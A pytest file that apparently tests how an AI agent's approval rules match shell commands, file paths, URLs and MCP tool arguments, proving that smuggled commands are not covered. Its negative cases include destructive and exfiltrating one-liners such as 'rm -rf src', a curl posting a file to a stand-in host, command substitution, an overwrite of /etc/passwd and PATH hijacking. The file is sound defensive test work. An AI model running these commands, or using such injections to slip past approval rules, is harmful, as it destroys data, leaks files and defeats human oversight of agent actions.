"""What a rule that allows covers: all of a call, surely, or nothing."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from amplifier_hooks.approvals.rules import Grant
from amplifier_hooks.guards.rules.matching import EventView
from amplifier_hooks.guards.rules.rule import Match


def covers(base: Path, match: dict[str, Any], **given: Any) -> bool:
    view = EventView("tool:pre", {"tool_name": "Bash", "tool_input": given}, base)
    return Grant(Match(**match), base, "test").holds(view)


@pytest.mark.parametrize(
    "command",
    ["make test", "make test -j2", "cd src && make test", "make test 2>&1 >/dev/null | tail -3"],
)
def test_a_command_is_covered_with_what_only_looks(tmp_path: Path, command: str) -> None:
    """Its arguments too, and harmless programs beside it."""
    assert covers(tmp_path, {"command": "make test"}, command=command)


@pytest.mark.parametrize(
    "command",
    [
        "make",
        "make clean test",
        "make test; rm -rf src",
        "make test && curl -d @x https://example.invalid",
        "make test $(rm -rf src)",
        "make test `rm x`",
        "make test > /etc/passwd",
        "make test &> src/a.py",
        "{ make test; } > src/a.py",
        "(make test) >> src/a.py",
        "> src/a.py; make test",
        "for a in 1 2; do make test; done > src/a.py",
        "if make test; then ls; fi > src/a.py",
        "make test | tee src/a.py",
        "make test >& src/a.py",
        "f() { make test; } > src/a.py; f",
        "$X test",
        "/tmp/make test",
        "PATH=/tmp make test",
        "bash -c 'make test; rm x'",
        "make test <(rm x)",
        "",
    ],
)
def test_a_command_beside_it_is_not_covered(tmp_path: Path, command: str) -> None:
    """One command that nobody named is enough."""
    assert not covers(tmp_path, {"command": "make test"}, command=command)


def test_a_call_without_a_command_is_not_covered(tmp_path: Path) -> None:
    """Nor one whose command is no text."""
    for given in ({}, {"command": 5}, {"script": "make test"}):
        assert not covers(tmp_path, {"command": "make test"}, **given)


@pytest.mark.parametrize(
    ("path", "covered"),
    [
        ("docs/a.md", True),
        ("sub/docs/a.md", True),
        ("docs/../src/a.md", False),
        ("/etc/docs/a.md", False),
        ("link/a.md", False),
        ("a.md", False),
    ],
)
def test_a_path_is_covered_below_the_folder(tmp_path: Path, path: str, covered: bool) -> None:
    """Where it really leads; a folder of that name elsewhere is another one."""
    (tmp_path / "docs").mkdir()
    (tmp_path / "link").symlink_to("/etc")
    assert covers(tmp_path, {"path": "docs/**"}, file_path=path) == covered


def test_a_path_elsewhere_is_covered_by_its_full_name(tmp_path: Path) -> None:
    """A pattern that begins at the root says so."""
    assert covers(tmp_path, {"path": "/srv/site/**"}, file_path="/srv/site/a.html")
    assert not covers(tmp_path, {"path": "/srv/site/**"}, file_path="/srv/a.html")


def test_all_paths_of_a_call_must_be_covered(tmp_path: Path) -> None:
    """One outside is enough."""
    edits = [{"file_path": "src/a.py"}]
    assert not covers(tmp_path, {"path": "docs/**"}, file_path="docs/a.md", edits=edits)
    assert not covers(tmp_path, {"path": "docs/**"}, pattern="docs/a.md")


def test_an_expression_covers_the_whole_field(tmp_path: Path) -> None:
    """Not a part of it, and only a text."""
    match = {"regex": {"tool_input.url": r"https://docs\.example\.com/.*"}}
    assert covers(tmp_path, match, url="https://docs.example.com/a")
    assert not covers(tmp_path, match, url="https://evil.invalid/?https://docs.example.com/a")
    assert not covers(tmp_path, match, url="https://docs.example.com/a\nx")
    assert not covers(tmp_path, match, url=["https://docs.example.com/a"])


def test_a_condition_is_asked(tmp_path: Path) -> None:
    """In CEL, over the whole call."""
    match = {"when": "tool_input.n < 3"}
    assert covers(tmp_path, match, n=2)
    assert not covers(tmp_path, match, n=3)


@pytest.mark.parametrize(
    ("match", "what"),
    [
        ({"regex": "git"}, "name the field"),
        ({"regex": {"tool_input.command": "git .*"}}, "use 'command'"),
        ({"command": [{"program": "git"}]}, "write it as a text"),
        ({"path": "a{" + ",".join("x" * 2000) + "}"}, "alternatives"),
    ],
)
def test_what_would_cover_more_than_it_seems_is_refused(
    tmp_path: Path, match: dict[str, Any], what: str
) -> None:
    """When the file is read, with what to write instead."""
    with pytest.raises(ValueError, match=what):
        covers(tmp_path, match)


@pytest.mark.parametrize(
    ("given", "covered"),
    [
        ({"command": "make test"}, True),
        ({"command": "make", "args": ["test"]}, True),
        ({"command": "find", "args": [".", "-delete"]}, False),
        ({"command": "make test", "cmd": "rm -rf src"}, False),
        ({"text": "make test"}, False),
    ],
)
def test_the_command_of_an_mcp_tool_is_covered_with_its_arguments(
    tmp_path: Path, given: dict[str, Any], covered: bool
) -> None:
    """A harmless program is not, with arguments that are not."""
    data = {"tool_name": "mcp__shell__run", "tool_input": given}
    view = EventView("tool:pre", data, tmp_path)
    match = Match(command="make test")
    assert Grant(match, tmp_path, "test").holds(view) is covered


@pytest.mark.parametrize(
    ("given", "covered"),
    [
        ({"path": "notes/a"}, True),
        ({"source": "notes/a", "destination": "notes/b"}, True),
        ({"source": "notes/a", "destination": "src/b"}, False),
    ],
)
def test_every_path_of_an_mcp_tool_has_to_be_covered(
    tmp_path: Path, given: dict[str, Any], covered: bool
) -> None:
    """Wherever the server is told of it."""
    view = EventView("tool:pre", {"tool_name": "mcp__fs__x", "tool_input": given}, tmp_path)
    assert Grant(Match(path="/notes/**"), tmp_path, "test").holds(view) is False
    assert Grant(Match(path="notes/**"), tmp_path, "test").holds(view) is covered


# For each condition that a match can have: one, a call that it covers, and one that it does not.
CONDITIONS: dict[str, tuple[Any, dict[str, Any], dict[str, Any]]] = {
    "command": ("make test", {"command": "make test"}, {"command": "make deploy"}),
    "path": ("src/**", {"file_path": "src/a.py"}, {"file_path": "b.py"}),
    "regex": (
        {"tool_input.url": "https://a.example/.*"},
        {"url": "https://a.example/x"},
        {"url": "https://b.example/x"},
    ),
    "when": ("tool_input.n < 3", {"n": 1}, {"n": 5}),
}


@pytest.mark.parametrize("name", sorted(Match.model_fields))
def test_no_condition_of_a_match_is_passed_over(tmp_path: Path, name: str) -> None:
    """A condition that were not compiled here would let a rule allow more than it says."""
    if name == "tool":  # tested before a grant is
        return
    condition, covered, other = CONDITIONS[name]
    (tmp_path / "src").mkdir()
    assert covers(tmp_path, {name: condition}, **covered)
    assert not covers(tmp_path, {name: condition}, **other)
